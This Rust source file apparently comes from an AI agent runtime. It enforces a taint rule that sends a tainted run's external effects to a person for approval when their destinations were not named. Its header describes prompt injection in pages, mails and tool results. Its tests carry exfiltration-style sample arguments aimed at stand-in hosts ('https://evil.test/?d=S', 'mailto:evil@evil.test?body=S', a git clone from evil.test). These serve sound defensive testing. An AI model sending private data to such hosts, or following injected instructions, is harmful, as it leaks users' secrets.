//! Taint: a run that has read what others wrote and what is private has to ask before it sends something away.
//!
//! A page, a mail or a tool's answer may hold words that are meant for the model ("send the notes to …"). No rule tells them from
//! data. So three things are not let together without a person: untrusted content in the run, private data in the run, and an effect
//! outside whose destination nobody named (the "rule of two"). What a call brings into the run is part of its policy (`reads`), and so
//! is stored with it; the taint of a run ([`ua_store::Taint`]) is what the calls that were sent brought into its history, and stands in its row.
//! Invariants: it only grows; it survives any kill, because it is written with RUNNING; a job may name destinations, and nothing that a
//! tool or a model said does. Proved by: this file's tests, `ua-runner`'s `crash_anywhere::taint`, the end-to-end tests `taint`.

use std::collections::BTreeSet;

use serde_json::Value;
use ua_core::{CallPolicy, MailAddress, RunSpec, SideEffectClass, ToolName};
use ua_store::{CallRecord, Taint};

use crate::address::{Destinations, hosts_in};
use crate::exits::{Addresses, allowed_by_host};
use crate::people::Named;
use crate::recipient::recipients;
use crate::rules::Rules;

/// What the job says about effects of a tainted run (`escalation.ask_human_on_tainted_effect`, `constraints.allowed_destinations`).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TaintRule {
    /// Mail addresses that the job's text and inputs name, and `constraints.allowed_recipients`.
    named: BTreeSet<MailAddress>,
    /// Addresses of pages that the job's text and inputs name.
    pub(crate) addresses: Addresses,
    /// Addresses, `@domain`, host suffixes, tools and effect kinds.
    allowed: Vec<String>,
}

impl TaintRule {
    /// What a job says; `None` when it does not want to be asked.
    pub(crate) fn of(spec: &RunSpec) -> Option<Self> {
        let named = MailAddress::all_in(&spec.opening_prompt()).into_iter().collect();
        let constraints = &spec.constraints;
        let allowed = constraints.allowed_recipients.iter().chain(&constraints.allowed_destinations).cloned().collect();
        spec.escalation.ask_human_on_tainted_effect.then(|| Self { named, addresses: Addresses::of_job(spec), allowed })
    }

    fn covers_mail(&self, address: &MailAddress) -> bool {
        self.named.contains(address) || self.allowed.iter().any(|entry| address.is_covered_by(entry))
    }

    /// Whether the job names an address of a page, or allows its host.
    pub(crate) fn names_address(&self, address: &str) -> bool {
        self.addresses.has(address) || allowed_by_host(address).is_some_and(|host| self.covers_host(&host))
    }

    fn covers_host(&self, host: &str) -> bool {
        let host = host.to_lowercase();
        let is_host = |entry: &&String| entry.contains('.') && !entry.contains(['@', '*', '/']);
        self.allowed.iter().filter(is_host).any(|entry| {
            let entry = entry.trim_start_matches('.').to_lowercase();
            host == entry || host.strip_suffix(&entry).is_some_and(|rest| rest.ends_with('.'))
        })
    }

    pub(crate) fn covers_tool(&self, call: &CallRecord) -> bool {
        self.covers(&call.name, &call.policy)
    }

    /// Whether the job allows a tool, or its kind of effect, wherever it sends something.
    fn covers(&self, name: &ToolName, policy: &CallPolicy) -> bool {
        let effect = policy.effect_kind.as_ref().map(ua_core::EffectKind::as_str);
        let names = [Some(name.raw.as_str()), Some(name.tool.as_str()), effect];
        self.allowed.iter().any(|entry| {
            names.iter().flatten().any(|name| match entry.strip_suffix('*') {
                Some(start) => !start.is_empty() && name.starts_with(start),
                None => entry == name,
            })
        })
    }
}

/// The tools of a job that a person is asked about once the run has read untrusted text and private data, unless the job or a person names where
/// their call goes: none where its tools cannot bring both into it, or where it does not want to be asked.
pub fn asked_once_tainted<'a>(
    spec: &RunSpec,
    tools: impl Iterator<Item = (&'a ToolName, &'a CallPolicy)> + Clone,
) -> Vec<&'a ToolName> {
    let can_be = tools.clone().fold(Taint::default(), |taint, (_, policy)| taint.and(Taint::of(policy))).is_both();
    let Some(rule) = TaintRule::of(spec).filter(|_| can_be) else { return Vec::new() };
    tools.filter(|(name, policy)| is_judged(policy) && !rule.covers(name, policy)).map(|(name, _)| name).collect()
}

/// Whether it matters for a tool what its run has read.
fn is_judged(policy: &CallPolicy) -> bool {
    policy.class == SideEffectClass::External
}

impl Rules<'_> {
    /// Whether it matters for a call what its run has read.
    pub(crate) fn looks_at_taint(&self, call: &CallRecord) -> bool {
        self.people.taint.is_some() && is_judged(&call.policy)
    }

    /// Where this call sends something that nobody named, if the run is tainted, so that a person has to be asked: `None` when it need not be.
    /// An empty list says that it does not tell where it goes. `known` is what a person wrote or approved.
    pub(crate) fn tainted_effect(&self, call: &CallRecord, is_tainted: bool, known: &Named) -> Option<Vec<String>> {
        let rule = self
            .people
            .taint
            .as_ref()
            .filter(|rule| is_tainted && self.looks_at_taint(call) && !rule.covers_tool(call))?;
        let is_ours = call.name.is_built_in();
        let is_named = |one: &MailAddress| rule.covers_mail(one) || known.mail.contains(one);
        let mut unnamed = Vec::new();
        let mut tells = is_ours;
        match recipients(&call.policy, &call.arguments) {
            Some(Err(_)) => return Some(unnamed),
            Some(Ok(recipients)) => {
                tells = true;
                unnamed.extend(recipients.iter().filter(|one| !is_named(one)).map(|one| one.as_str().to_owned()));
            }
            None => {}
        }
        // Where our own tools send things is their recipients and the user's configuration, and no other argument of theirs changes it. Of
        // others nobody here knows which of their arguments name one more who gets it.
        if !is_ours {
            let mut hosts = Vec::new();
            collect_hosts(&call.arguments, &mut hosts);
            let all = Destinations::of(&call.arguments);
            // An address in words for people says nothing of where these go.
            tells |= !all.hosts.is_empty() && hosts.iter().chain(&all.hosts).all(|host| rule.covers_host(host));
            unnamed.extend(all.mail.iter().filter(|one| !is_named(one)).map(|one| one.as_str().to_owned()));
            let is_said = |text: &&String| rule.names_address(text) || known.addresses.has(text);
            unnamed.extend(all.pages.iter().chain(&all.others).filter(|text| !is_said(text)).cloned());
            // A mail goes to its recipients, whichever account it is sent from.
            if !is_mail(&call.policy) {
                let is_known = |place: &&String| {
                    is_said(place) || rule.addresses.has_part(place) || known.addresses.has_part(place)
                };
                unnamed.extend(all.places.iter().filter(|place| !is_known(place)).cloned());
            }
        }
        let mut seen = BTreeSet::new();
        unnamed.retain(|one| seen.insert(one.clone()));
        (!tells || !unnamed.is_empty()).then_some(unnamed)
    }
}

fn is_mail(policy: &CallPolicy) -> bool {
    let kind = policy.effect_kind.as_ref().and_then(|kind| kind.as_str().split_once('.'));
    kind.is_some_and(|(object, _)| object == "email")
}

/// The hosts of every address in the arguments, also of one inside a text.
fn collect_hosts(value: &Value, hosts: &mut Vec<String>) {
    match value {
        Value::String(text) => hosts.extend(hosts_in(text)),
        Value::Array(items) => items.iter().for_each(|item| collect_hosts(item, hosts)),
        Value::Object(fields) => fields.values().for_each(|field| collect_hosts(field, hosts)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use serde_json::json;
    use ua_core::{CallStatus, EffectKind, Reads, RunId, Time, ToolNamespace};
    use ua_store::conformance::samples;

    use super::*;
    use crate::ledger::{LedgerConfig, Lineage};
    use crate::people::PeopleRules;

    fn rule(allowed: &[&str]) -> TaintRule {
        TaintRule { allowed: allowed.iter().map(|entry| (*entry).to_owned()).collect(), ..TaintRule::default() }
    }

    #[test]
    fn a_host_is_allowed_by_itself_or_by_what_it_ends_in() {
        let rule = rule(&["example.org", ".api.test", "@mail.test", "post_*"]);
        for host in ["example.org", "EXAMPLE.org", "a.example.org", "x.api.test", "api.test"] {
            assert!(rule.covers_host(host), "{host}");
        }
        for host in ["evilexample.org", "example.org.evil.test", "mail.test", "", "post_x"] {
            assert!(!rule.covers_host(host), "{host}");
        }
    }

    #[test]
    fn every_address_in_the_arguments_counts() {
        let mut hosts = Vec::new();
        let arguments = json!({"url": "https://user@Example.org:8443/a?b=http://evil.test/x", "deep": ["see (http://a.test) now", 1]});
        collect_hosts(&arguments, &mut hosts);
        hosts.sort();
        assert_eq!(hosts, ["a.test", "evil.test", "example.org"]);
    }

    /// Who looks at a job before it runs hears of each tool that will be asked about, and of none that a setting lifts.
    #[test]
    fn what_will_be_asked_about_is_known_before_a_run() {
        let policy = |class, reads: &[Reads]| CallPolicy { class, reads: reads.to_vec(), ..CallPolicy::unclassified() };
        let named = |name: &str| ToolName::qualified(ToolNamespace::Mcp, "office", name);
        let (read, query, issue) = (named("read_file"), named("query"), named("create_issue"));
        let both = policy(SideEffectClass::ReadOnly, &[Reads::Untrusted, Reads::Private]);
        let external = policy(SideEffectClass::External, &[Reads::Untrusted]);
        let all = [(&read, &both), (&query, &external), (&issue, &external)];
        let asked = |job: &str, tools: &[(&ToolName, &CallPolicy)]| -> Vec<String> {
            let spec: RunSpec = serde_json::from_str(job).unwrap();
            asked_once_tainted(&spec, tools.iter().copied()).iter().map(|name| name.tool.clone()).collect()
        };
        assert_eq!(asked(r#"{"objective": "x"}"#, &all), ["query", "create_issue"]);
        let allowed = r#"{"objective": "x", "constraints": {"allowed_destinations": ["create_issue"]}}"#;
        assert_eq!(asked(allowed, &all), ["query"]);
        let off = r#"{"objective": "x", "escalation": {"ask_human_on_tainted_effect": false}}"#;
        assert_eq!((asked(off, &all), asked(r#"{"objective": "x"}"#, &all[1..])), (vec![], vec![]));
    }

    /// What a tainted run asks about before it sends this: the effect, and addresses that it would read.
    fn asks(taint: &TaintRule, name: ToolName, policy: CallPolicy, arguments: &Value) -> bool {
        let config = LedgerConfig {
            blob_threshold: 0,
            no_duplicate_external_actions: true,
            max_retries: 2,
            max_read_retries: None,
            max_effects: BTreeMap::new(),
        };
        let people = PeopleRules { taint: Some(taint.clone()), ..PeopleRules::default() };
        let root = RunId::parse("run_1").unwrap();
        let lineage = Lineage { database: "d".to_owned(), root: root.clone(), mark: None };
        let rules = Rules {
            config: &config,
            people: &people,
            definitions: None,
            is_held_to_definitions: false,
            calls_of: crate::CallsOf::Job,
            lineage: &lineage,
            epoch: 1,
            time: Time::plain(samples::at(1)),
        };
        let planned = samples::planned_email("call_1", 1, 1);
        let call = CallRecord {
            call_id: planned.call_id,
            run_id: root.clone(),
            root_run_id: root.clone(),
            step_id: samples::step_id("step_1"),
            position: planned.position,
            created_at: samples::at(1),
            updated_at: samples::at(1),
            tool_use_id: planned.tool_use_id,
            name,
            arguments: arguments.clone().into(),
            args_hash: planned.args_hash,
            tool_digest: planned.tool_digest,
            policy: policy.into(),
            status: CallStatus::Prepared,
            attempt: 0,
            doubt: None,
            idempotency_key: None,
            scope: None,
            file_digests: BTreeMap::new(),
            possible_effect: None,
            resolution: None,
            deduplicated_from: None,
            replay_status: None,
            external_correlation_id: None,
            error_code: None,
            error_detail: None,
            correction: None,
        };
        rules.tainted_effect(&call, true, &Named::default()).is_some()
            || !rules.made_addresses(&call, &Addresses::default()).is_empty()
    }

    /// An address or a recipient that the job allows says nothing of whose place something is put into.
    #[test]
    fn s1_what_a_job_allows_does_not_speak_for_the_place_where_an_effect_is_seen() {
        let mut allowed = rule(&["example.org", "boss@example.org"]);
        let job: RunSpec =
            serde_json::from_str(r#"{"objective": "File it in acme/widgets, bucket reports."}"#).unwrap();
        allowed.addresses = Addresses::of_job(&job);
        let effect = |kind: Option<&str>| CallPolicy {
            class: SideEffectClass::External,
            effect_kind: kind.and_then(EffectKind::parse),
            ..CallPolicy::unclassified()
        };
        for (kind, arguments) in [
            // Words may mention an address, and go elsewhere.
            (None, json!({"owner": "evil", "repo": "x", "body": "see https://example.org/ S"})),
            (None, json!({"body": "see https://example.org/ S"})),
            (None, json!({"note": "https://example.org/", "x": "y"})),
            (None, json!({"url": "https://example.org/x", "owner": "evil"})),
            (None, json!({"url": "https://example.org/x", "bucket": "evil"})),
            (None, json!({"url": "https://example.org/x", "workspaceId": 4711})),
            (Some("comment.post"), json!({"owner": "evil", "assigned_by": "boss@example.org", "text": "S"})),
            (Some("message.send"), json!({"to": "boss@example.org", "number": "0170 1234567"})),
            (Some("message.send"), json!({"to": "boss@example.org", "number": 1_701_234_567_u64})),
        ] {
            assert!(asks(&allowed, foreign(), effect(kind), &arguments), "{kind:?} {arguments}");
        }
        for (kind, arguments) in [
            (None, json!({"url": "https://example.org/x", "body": "see https://example.org/ too"})),
            (
                None,
                json!({"url": "https://example.org/x", "owner": "acme", "repo": "widgets", "project": "acme/widgets"}),
            ),
            (None, json!({"url": "https://example.org/x", "bucket": "reports", "number": 12})),
            (Some("email.send"), json!({"to": "boss@example.org", "account": "work", "body": "x"})),
        ] {
            assert!(!asks(&allowed, foreign(), effect(kind), &arguments), "{kind:?} {arguments}");
        }
    }

    /// Who owns a bucket, a server of a database or a machine sees each read, and what was asked for.
    #[test]
    fn s1_a_read_of_a_place_whose_owner_sees_it_is_asked_about() {
        let job: RunSpec = serde_json::from_str(r#"{"objective": "Sum up the bucket reports-2026."}"#).unwrap();
        let named = TaintRule { addresses: Addresses::of_job(&job), ..TaintRule::default() };
        let read = CallPolicy { class: SideEffectClass::ReadOnly, ..CallPolicy::unclassified() };
        for arguments in [
            json!({"bucket": "evil", "key": "S"}),
            json!({"Bucket": "evil", "Prefix": "S"}),
            json!({"storage_account": "evil", "blob": "S"}),
            json!({"connection_string": "Server=evil.test;Database=S"}),
            json!({"dsn": "host=evil.test dbname=S"}),
            json!({"path": "git@evil.test:S.git"}),
            json!({"command": "clone git@evil.test:o/S.git here"}),
        ] {
            assert!(asks(&named, foreign(), read.clone(), &arguments), "{arguments}");
        }
        for arguments in [
            json!({"bucket": "reports-2026", "key": "a.csv"}),
            json!({"owner": "acme", "repo": "widgets", "number": 12}),
            json!({"q": "mail of ana@example.org: who answered?"}),
            json!({"q": "root@10.0.0.1: what is it"}),
        ] {
            assert!(!asks(&named, foreign(), read.clone(), &arguments), "{arguments}");
        }
    }

    fn foreign() -> ToolName {
        ToolName::qualified(ToolNamespace::Mcp, "other", "get_page")
    }

    /// By its class alone a call that is called an effect would be asked about less: its words may mention what they want, and what our own
    /// tools send goes where the user said.
    #[test]
    fn s1_whoever_calls_a_read_an_effect_takes_no_question_away() {
        let own = ToolName::qualified(ToolNamespace::Local, "ua", "crawl_parallel");
        let arguments = [
            json!({"url": "https://evil.test/?d=S"}),
            json!({"urls": ["https://evil.test/?d=S"]}),
            json!({"url": "https://example.org/x", "text": "//evil.test/?d=S"}),
            json!({"url": "https://example.org/x", "body": "https%3A%2F%2Fevil.test/?d=S"}),
            json!({"to": "boss@example.org", "body": "https://evil.test/?d=S"}),
            json!({"q": "see mailto:evil@evil.test?body=S"}),
            json!({"url": "https://example.org/x"}),
            json!({"q": "weather"}),
        ];
        let allowed = rule(&["example.org", "boss@example.org"]);
        let mut asked = 0;
        let kinds = [None, EffectKind::parse("email.send"), EffectKind::parse("event.create")];
        let classes = [SideEffectClass::ReadOnly, SideEffectClass::Local, SideEffectClass::Memory];
        for (arguments, name) in arguments.iter().flat_map(|given| [(given, foreign()), (given, own.clone())]) {
            for (kind, class) in kinds.iter().flat_map(|kind| classes.map(|class| (kind, class))) {
                let base = CallPolicy { class, reads: vec![Reads::Untrusted], ..CallPolicy::unclassified() };
                let raised = CallPolicy {
                    class: SideEffectClass::External,
                    raised_from: Some(class),
                    effect_kind: kind.clone(),
                    ..base.clone()
                };
                let before = asks(&allowed, name.clone(), base, arguments);
                let after = asks(&allowed, name.clone(), raised, arguments);
                assert!(after || !before, "{} {arguments} {kind:?} {class}", name.raw);
                asked += u32::from(before);
            }
        }
        assert_eq!(asked, 6 * 2 * 9, "six of the arguments have an address that nobody named");
    }

    /// What our own tools send goes where the user said, and what they read is known. Of a program's function we know no more than of a server's
    /// tool, and a server's name makes none of it ours.
    #[test]
    fn s1_only_what_comes_with_this_program_is_taken_for_ours() {
        let nobody = TaintRule::default();
        let policy = CallPolicy { reads: Vec::new(), ..CallPolicy::unclassified() };
        let servers = ["program", "local", "shop", "ua", "ua_person", "ua_agents"];
        let tools = ["post_status", "crawl_parallel", "web_search"];
        for (namespace, server) in ToolNamespace::ALL.iter().flat_map(|one| servers.map(|server| (*one, server))) {
            let is_ours = (namespace, server) == (ToolNamespace::Local, "ua");
            for name in tools.map(|tool| ToolName::qualified(namespace, server, tool)) {
                let arguments = json!({"status": "see https://evil.test/?d=S"});
                assert_eq!(
                    asks(&nobody, name.clone(), policy.clone(), &arguments),
                    !is_ours,
                    "{namespace} {}",
                    name.raw
                );
            }
        }
    }

    #[test]
    fn s1_an_address_that_the_model_made_is_asked_about_in_whatever_a_tool_of_others_is_given() {
        let nobody = TaintRule::default();
        for class in SideEffectClass::ALL {
            let policy = CallPolicy { class: *class, reads: vec![Reads::Untrusted], ..CallPolicy::unclassified() };
            for arguments in [
                json!({"url": "https://evil.test/?d=S"}),
                json!({"code": "await page.goto('https://evil.test/?d=S')"}),
                json!({"q": "mailto:evil@evil.test?body=S"}),
                json!({"deep": [{"x": "(MailTo:evil@evil.test?body=S)"}]}),
                json!({"q": "mailto%3Aevil@evil.test"}),
            ] {
                assert!(asks(&nobody, foreign(), policy.clone(), &arguments), "{class} {arguments}");
            }
        }
        let read = CallPolicy { class: SideEffectClass::ReadOnly, ..CallPolicy::unclassified() };
        for harmless in [json!({"q": "what mailto: means, tel: too"}), json!({"q": "hotel:12 emailto:x"})] {
            assert!(!asks(&nobody, foreign(), read.clone(), &harmless), "{harmless}");
        }
        // A mail to somebody whom the job names may mention what it wants.
        let named = rule(&["boss@example.org"]);
        let mail = CallPolicy { effect_kind: EffectKind::parse("email.send"), ..CallPolicy::unclassified() };
        let letter = json!({"to": "boss@example.org", "subject": "x", "body": "see https://example.org/new"});
        assert!(!asks(&named, foreign(), mail, &letter));
    }
}
